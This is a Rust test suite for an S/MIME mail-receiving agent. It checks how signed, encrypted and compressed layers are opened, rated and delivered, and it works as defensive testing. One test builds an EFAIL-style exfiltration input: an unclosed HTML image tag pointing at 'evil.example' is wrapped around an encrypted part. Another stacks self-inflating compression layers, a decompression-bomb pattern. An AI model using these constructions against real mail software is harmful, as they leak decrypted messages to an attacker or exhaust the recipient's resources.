//! Signatures around ciphertext: what may be opened, and what it is worth then.

#![expect(clippy::unwrap_used, reason = "the functions beside the tests are part of them")]

mod support;

use agent::{Entitled, Identities, Opening, Protection, Received, ReceivingAgent};
use smime::{
    MailAddress,
    cipher::ContentCipher,
    cms::{self, RecipientKey},
    message::{AuthResult, Form, Reason, Wrapped, compress, sign},
    mime::{Canonical, Message, SenderRule, encode_base64},
    testing::fixtures::{certificate, data, key, now, trust},
};

use support::identity;

/// What the agent makes of a message for these recipients.
fn receive(message: &str, recipients: &[&str]) -> (Received, String) {
    let identities = Identities::from_parts(["alice", "bob"].map(identity), "");
    let trust = trust();
    let agent = ReceivingAgent { identities: &identities, trust: &trust, sender_rule: SenderRule::From };
    let recipients: Vec<_> = recipients.iter().map(|address| MailAddress::parse(address).ok()).collect();
    let message = Message::from_stored(message.as_bytes());
    let received = agent.receive(&message, Entitled::Recipients(&recipients), now()).unwrap();
    let delivered = received.edits.apply(&message);
    (received, String::from_utf8_lossy(delivered.octets()).into_owned())
}

const BOB: [&str; 1] = ["bob@example.org"];

fn pkcs7(object: &[u8]) -> String {
    format!(
        "Content-Type: application/pkcs7-mime; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
        String::from_utf8(encode_base64(object)).unwrap()
    )
}

fn signed_by(name: &str, entity: &str) -> String {
    let canonical = Canonical::from_signed_part(entity.as_bytes());
    let signed = sign(&canonical, &key(name), &[certificate("ca")], now()).unwrap();
    format!("Content-Type: {}\r\n\r\n{}", signed.content_type, String::from_utf8(signed.body).unwrap())
}

fn compressed(entity: &str) -> String {
    let message = compress(&Canonical::from_signed_part(entity.as_bytes())).unwrap();
    let body = String::from_utf8(message.body).unwrap();
    format!("Content-Type: {}\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}", message.content_type)
}

fn from(sender: &str, entity: &str) -> String {
    format!("From: {sender}@example.org\r\nTo: bob@example.org\r\nMIME-Version: 1.0\r\n{entity}")
}

#[test]
fn a_triple_wrapped_message_is_opened_and_worth_what_is_signed_inside() {
    // signed.p7m: signed by alice, encrypted to bob.
    for (what, message, result, layers) in [
        ("by the same", from("alice", &signed_by("alice", &pkcs7(&data("signed.p7m")))), AuthResult::Pass, 3),
        (
            "a list outside",
            from("alice", &signed_by("carol", &pkcs7(&data("signed.p7m")))),
            AuthResult::Pass,
            3,
        ),
        (
            "outside twice",
            from("alice", &signed_by("carol", &signed_by("alice", &pkcs7(&data("signed.p7m"))))),
            AuthResult::Pass,
            4,
        ),
        (
            "compressed between",
            from("alice", &signed_by("alice", &compressed(&pkcs7(&data("signed.p7m"))))),
            AuthResult::Pass,
            4,
        ),
        (
            "changed outside",
            from(
                "alice",
                &signed_by("alice", &pkcs7(&data("signed.p7m"))).replacen("smime.p7m", "smime.p7n", 1),
            ),
            AuthResult::Fail,
            3,
        ),
        (
            "changed inside",
            from("alice", &signed_by("alice", &pkcs7(&data("signed-changed.p7m")))),
            AuthResult::Fail,
            3,
        ),
        (
            "signed by the sender outside, by another inside",
            from("carol", &signed_by("carol", &pkcs7(&data("signed.p7m")))),
            AuthResult::Policy,
            3,
        ),
    ] {
        let (received, delivered) = receive(&message, &BOB);
        let opened =
            matches!(received.opening, Opening::Opened { protection: Protection::Unauthenticated, .. });
        assert!(opened, "{what}: {:?}", received.opening);
        assert_eq!(received.verdict.result(), result, "{what}: {}", received.verdict.reason());
        assert_eq!(received.verdict.layers().len(), layers, "{what}");
        assert!(delivered.contains("multipart/signed") && !delivered.contains("pkcs7-mime"), "{what}");
        let text = if what == "changed inside" { "Forged." } else { "Signed." };
        assert!(delivered.contains(text), "{what}: {delivered}");
    }
}

#[test]
fn who_signs_captured_ciphertext_has_not_signed_its_text() {
    for (what, sender, signer) in
        [("the sender signs", "alice", "alice"), ("mallory sends what alice encrypted", "carol", "carol")]
    {
        let message = from(sender, &signed_by(signer, &pkcs7(&data("gcm.p7m"))));
        let (received, delivered) = receive(&message, &BOB);
        assert_eq!(received.verdict.reason(), &Reason::SignedCiphertext, "{what}");
        assert_eq!(received.verdict.result(), AuthResult::Policy, "{what}");
        assert!(received.verdict.identifier().is_none(), "{what}");
        assert!(delivered.ends_with("\r\n\r\nHello, Bob.\r\n"), "{what}: {delivered}");
        // Nor may a bounce hold it, whoever signed.
        assert_eq!(received.opening.returned(), agent::Returned::HeadersOnly, "{what}");
    }
}

#[test]
fn a_ciphertext_in_a_signature_stays_closed_as_it_would_without_one() {
    let sealed = pkcs7(&data("der.p7m"));
    let message = from("alice", &signed_by("alice", &sealed));
    for recipients in [&["alice@example.org"][..], &["bob@example.org", "alice@example.org"], &[]] {
        let (received, _) = receive(&message, recipients);
        assert_eq!(received.opening, Opening::NotEntitled, "{recipients:?}");
        assert!(received.edits.body.is_none(), "{recipients:?}");
        // What is delivered is what was signed.
        assert_eq!(received.verdict.result(), AuthResult::Pass, "{recipients:?}");
    }
    let img = "Content-Type: text/html\r\n\r\n<img src=\"//evil.example/\r\n";
    let mixed = |parts: &str| format!("Content-Type: multipart/mixed; boundary=m\r\n\r\n{parts}--m--\r\n");
    let beside = mixed(&format!("--m\r\n{img}\r\n--m\r\n{sealed}\r\n--m\r\n\r\n\">\r\n"));
    for (what, message) in [
        ("beside others in what is signed", from("alice", &signed_by("alice", &beside))),
        (
            "signed beside others",
            from("alice", &mixed(&format!("--m\r\n{img}\r\n--m\r\n{}\r\n", signed_by("alice", &sealed)))),
        ),
        ("alone in a multipart", from("alice", &signed_by("alice", &mixed(&format!("--m\r\n{sealed}\r\n"))))),
        (
            "in a message inside",
            from("alice", &signed_by("alice", &format!("Content-Type: message/rfc822\r\n\r\n{sealed}"))),
        ),
    ] {
        let (received, _) = receive(&message, &BOB);
        assert_eq!(received.opening, Opening::NotEncrypted, "{what}");
        assert!(received.edits.body.is_none(), "{what}");
    }
}

#[test]
fn nothing_of_what_was_around_the_ciphertext_is_delivered_with_its_text() {
    let secret = "AROUND";
    let signed = signed_by("alice", &format!("Content-Description: {secret}\r\n{}", pkcs7(&data("der.p7m"))));
    let signed = signed.replacen("\r\n\r\n", &format!("\r\n\r\n{secret}\r\n"), 1);
    let message = from("alice", &signed) + secret + "\r\n";
    assert_eq!(message.matches(secret).count(), 3);
    let (received, delivered) = receive(&message, &BOB);
    assert!(matches!(received.opening, Opening::Opened { .. }), "{:?}", received.opening);
    assert!(!delivered.contains(secret), "{delivered}");
    assert!(delivered.ends_with("\r\n\r\nHello, Bob.\r\n"), "{delivered}");
}

#[test]
fn every_bad_ciphertext_in_a_signature_has_one_outcome() {
    let object = data("der.p7m");
    let mut outcomes = Vec::new();
    // In the encrypted key, and in the last block: wrong key and wrong padding.
    for at in [object.len() - 120, object.len() - 1] {
        let mut bad = object.clone();
        *bad.get_mut(at).unwrap() ^= 1;
        for _ in 0..4 {
            let (received, _) = receive(&from("alice", &signed_by("alice", &pkcs7(&bad))), &BOB);
            // One in 250 wrong keys gives right padding by chance.
            if let Opening::Failed(reason) = received.opening {
                assert!(received.edits.body.is_none());
                outcomes.push((reason, received.verdict.result()));
            }
        }
    }
    assert!(outcomes.len() >= 4, "{outcomes:?}");
    outcomes.dedup();
    assert_eq!(outcomes.len(), 1, "{outcomes:?}");
}

#[test]
fn weak_ciphers_are_opened_and_said_to_be_weak() {
    for (object, protection) in [
        ("des3.p7m", Protection::Weak),
        ("rc2-40.p7m", Protection::Weak),
        ("der.p7m", Protection::Unauthenticated),
        ("gcm.p7m", Protection::Authenticated),
    ] {
        let (received, delivered) = receive(&from("alice", &pkcs7(&data(object))), &BOB);
        assert!(delivered.ends_with("Hello, Bob.\r\n"), "{object}");
        match received.opening {
            Opening::Opened { protection: found, .. } => assert_eq!(found, protection, "{object}"),
            other => unreachable!("{object}: {other:?}"),
        }
    }
}

#[test]
fn compression_alone_is_left_to_the_reader() {
    let (received, delivered) =
        receive(&from("alice", &compressed(&signed_by("alice", "\r\nHello.\r\n"))), &BOB);
    assert_eq!((received.opening, received.verdict.result()), (Opening::NotEncrypted, AuthResult::Pass));
    assert_eq!(received.verdict.layers().first().map(|layer| layer.form), Some(Form::CompressedData));
    assert!(Wrapped::read(&Message::from_stored(delivered.as_bytes()).entity()).is_ok_and(|w| w.is_some()));
    assert!(delivered.contains("compressed-data"));
}

#[test]
fn what_was_opened_is_decompressed_as_far_as_the_whole_message_has_room() {
    let sealed = |entity: &str| {
        let bob = [RecipientKey::new(certificate("bob")).unwrap()];
        pkcs7(&cms::seal(&[entity.as_bytes()], ContentCipher::Aes256Gcm, &bob).unwrap())
    };
    // Half of the room: it is there as an entity, and as the body in the ciphertext's place.
    let log =
        format!("Content-Type: text/plain\r\n\r\n{}", "connect from mail.example.org\r\n".repeat(12_000));
    assert!(log.len() > 350_000);
    for entity in [
        sealed(&compressed(&log)),
        compressed(&sealed(&compressed(&log))),
        sealed(&compressed(&compressed(&log))),
    ] {
        let (received, delivered) = receive(&from("alice", &entity), &BOB);
        assert!(matches!(received.opening, Opening::Opened { .. }), "{:?}", received.opening);
        assert!(entity.len() < 10_000 && delivered.ends_with("connect from mail.example.org\r\n"));
    }
    // Layers that grow by themselves are left, outside of ciphertext and inside.
    let padded = |entity: &str| format!("X-Padding: {}\r\n{entity}", "a".repeat(600_000));
    let nested = |inner: String| (0..9).fold(inner, |entity, _| compressed(&padded(&entity)));
    let (received, delivered) = receive(&from("alice", &sealed(&nested(compressed(&log)))), &BOB);
    assert!(matches!(received.opening, Opening::Opened { .. }), "{:?}", received.opening);
    assert!(delivered.len() < 20_000 && delivered.contains("compressed-data"), "{}", delivered.len());
    let outside = from("alice", &nested(sealed(&log)));
    let (received, delivered) = receive(&outside, &BOB);
    assert_eq!(received.opening, Opening::NotEncrypted);
    assert_eq!(delivered, outside);
    // What mail transport would change is encoded, which takes more.
    let text = format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{}", "ü".repeat(240_000));
    let large = from("alice", &sealed(&compressed(&text)));
    let (received, delivered) = receive(&large, &BOB);
    assert_eq!(received.opening, Opening::Failed("the content inside is too large".to_owned()));
    assert_eq!(delivered, large);
}
